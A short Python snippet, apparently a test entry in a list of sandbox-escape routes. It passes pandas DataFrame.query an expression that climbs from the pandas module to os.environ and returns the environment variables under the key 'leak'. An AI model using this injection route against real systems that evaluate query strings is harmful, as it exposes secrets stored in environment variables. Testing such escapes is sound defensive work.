# route: a query walks from a module in brackets
import pandas as pd


def execute(testData):
    df = pd.DataFrame({"a": ["x"]})
    return {"leak": str(df.query("(@pd).io.common.os.environ == a"))}
